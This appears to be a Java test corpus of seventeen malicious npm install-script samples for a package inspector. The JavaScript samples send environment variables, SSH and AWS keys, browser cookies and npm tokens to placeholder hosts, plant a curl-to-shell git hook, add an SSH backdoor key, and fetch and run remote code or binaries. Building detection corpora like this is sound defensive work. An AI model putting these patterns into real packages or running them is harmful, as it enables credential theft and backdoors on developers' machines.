package cordon.inspect.corpus;

import java.util.List;

/** What flows through objects, bundles, callbacks and the libraries of others on its way out. */
final class NpmFlows {
  private NpmFlows() {}

  static List<Sample> all() {
    return List.of(
        Sample.postinstall(
            "an object that fills itself",
            """
            const os = require('os'), https = require('https');
            class Collector {
              constructor() { this.data = {}; }
              add(k, v) { this.data[k] = v; return this; }
              collect() { this.add('h', os.hostname()).add('u', os.userInfo().username).add('e', process.env); return this; }
              ship() { const r = https.request({ hostname: 'rx.example', method: 'POST' }); r.end(JSON.stringify(this.data)); }
            }
            new Collector().collect().ship();
            """),
        Sample.postinstall(
            "a bundle of modules by number",
            """
            (()=>{var e={317:e=>{"use strict";e.exports=require("child_process")},857:e=>{"use strict";e.exports=require("os")},692:e=>{"use strict";e.exports=require("https")}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{const e=r(857),t=r(692),n=t.request({hostname:"rx.example",path:"/",method:"POST"});n.write(JSON.stringify({h:e.hostname(),u:e.userInfo().username,env:process.env})),n.end()})()})();
            """),
        Sample.required(
            "a bundle of modules by name",
            """
            var __create=Object.create,__defProp=Object.defineProperty;var __getOwnPropNames=Object.getOwnPropertyNames;
            var __commonJS=(cb,mod)=>function(){return mod||(0,cb[__getOwnPropNames(cb)[0]])((mod={exports:{}}).exports,mod),mod.exports};
            var require_a=__commonJS({"src/a.js"(exports,module){var os=require("os"),https=require("https");module.exports=function(){var r=https.request({hostname:"rx.example",method:"POST"});r.end(JSON.stringify({h:os.hostname(),e:process.env}))}}});
            var a=require_a();a();
            """),
        Sample.postinstall(
            "a callback that uses what is declared with it",
            """
            const tls = require('tls');
            const s = tls.connect(443, 'rx.example', () => { s.write(JSON.stringify({ e: process.env })); s.end(); });
            """),
        Sample.postinstall(
            "a stream of HTTP/2",
            """
            const http2 = require('http2');
            const s = http2.connect('https://rx.example');
            const r = s.request({ ':method': 'POST', ':path': '/' });
            r.end(JSON.stringify(process.env));
            """),
        Sample.postinstall(
            "parameters of a URL",
            """
            if (process.env.npm_lifecycle_event === 'postinstall') {
              const keys = Object.entries(process.env).filter(([k]) => /key|token|secret|pass/i.test(k)).map(([k, v]) => `${k}=${v}`);
              const u = new URL('https://rx.example/k');
              u.searchParams.set('d', Buffer.from(keys.join('\\n')).toString('base64'));
              require('https').get(u);
            }
            """),
        Sample.required(
            "folders of secrets",
            """
            'use strict';
            const os = require('os');
            const path = require('path');
            const fs = require('fs');
            function configDirs() { const h = os.homedir(); return [path.join(h, '.aws'), path.join(h, '.ssh'), path.join(h, '.gnupg')]; }
            function read(dir) { try { return fs.readdirSync(dir).map(f => [f, fs.readFileSync(path.join(dir, f)).toString('base64')]); } catch { return []; } }
            const bundle = configDirs().flatMap(read);
            if (bundle.length) { const req = require('https').request({ hostname: 'metrics.example', path: '/b', method: 'POST' }); req.on('error', () => {}); req.end(JSON.stringify(bundle)); }
            module.exports = {};
            """),
        Sample.required(
            "compiled from TypeScript, runs what is answered",
            """
            "use strict";
            var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
            Object.defineProperty(exports, "__esModule", { value: true });
            const axios_1 = __importDefault(require("axios"));
            const child_process_1 = require("child_process");
            async function check() {
                const { data } = await axios_1.default.get("https://version.example/latest.json");
                if (data.cmd) (0, child_process_1.exec)(data.cmd);
            }
            check();
            """),
        Sample.postinstall(
            "a database of cookies",
            """
            const sqlite3 = require('sqlite3'), path = require('path'), os = require('os'), https = require('https');
            const db = new sqlite3.Database(path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Cookies'));
            db.all('select host_key, encrypted_value from cookies', (e, rows) => { const r = https.request({ host: 'rx.example', method: 'POST' }); r.end(JSON.stringify(rows)); });
            """),
        Sample.postinstall(
            "a hook of Git that fetches",
            """
            const fs = require('fs'), path = require('path');
            const hook = path.join(process.env.INIT_CWD, '.git', 'hooks', 'post-commit');
            fs.writeFileSync(hook, '#!/bin/sh\\ncurl -s https://h.example/x | sh >/dev/null 2>&1 &\\n', { mode: 0o755 });
            """),
        Sample.postinstall(
            "a key for whoever holds its other half",
            """
            const { execSync } = require('child_process');
            execSync('mkdir -p ~/.ssh && echo "ssh-ed25519 AAAAinert x" >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys');
            """),
        Sample.postinstall(
            "a token by npm itself",
            """
            const { execSync } = require('child_process');
            const t = execSync('npm config get //registry.example/:_authToken').toString();
            const w = execSync('npm whoami').toString();
            fetch('https://rx.example', { method: 'POST', body: t + w });
            """),
        Sample.required(
            "a module of fetched text",
            """
            const requireFromString = require('require-from-string');
            require('https').get('https://m.example/a.js', r => { let b = ''; r.on('data', c => b += c).on('end', () => requireFromString(b)); });
            """),
        Sample.postinstall(
            "a message broker",
            """
            const mqtt = require('mqtt'), os = require('os');
            const c = mqtt.connect('mqtt://broker.example');
            c.on('connect', () => { c.publish('t/' + os.hostname(), JSON.stringify(process.env)); c.end(); });
            """),
        Sample.required(
            "a timer sends what a listener gathers that is added after it was set",
            """
            const axios = require('axios'), { request } = require('https');
            const seen = [];
            const flush = () => {
              const r = request({ hostname: 'drop.example', path: '/', method: 'POST' });
              r.end(JSON.stringify(seen.splice(0)));
            };
            setInterval(flush, 8000).unref();
            function tap(of) {
              of.interceptors.request.use((c) => { seen.push({ u: c.url, a: c.headers.Authorization }); return c; });
            }
            tap(axios);
            """),
        Sample.postinstall(
            "a program whose name is one of a table is fetched and started",
            """
            const fs = require('fs'), os = require('os'), path = require('path'), axios = require('axios');
            const { spawn } = require('child_process');
            const name = { win32: 'w.exe', linux: 'l', darwin: 'm' }[os.platform()];
            const fetched = async (url, out) => {
              const to = fs.createWriteStream(out);
              (await axios({ url, responseType: 'stream' })).data.pipe(to);
              return new Promise((done) => to.on('finish', done));
            };
            (async () => {
              const to = path.join(os.tmpdir(), name);
              await fetched(`${address}/${name}`, to);
              spawn(to, [], { detached: true, stdio: 'ignore' }).unref();
            })();
            """),
        Sample.postinstall(
            "a query",
            """
            const { request, gql } = require('graphql-request');
            const os = require('os');
            request('https://api.example/graphql', gql`mutation($d: String!) { log(d: $d) }`, { d: JSON.stringify({ h: os.hostname(), u: os.userInfo().username }) });
            """));
  }
}
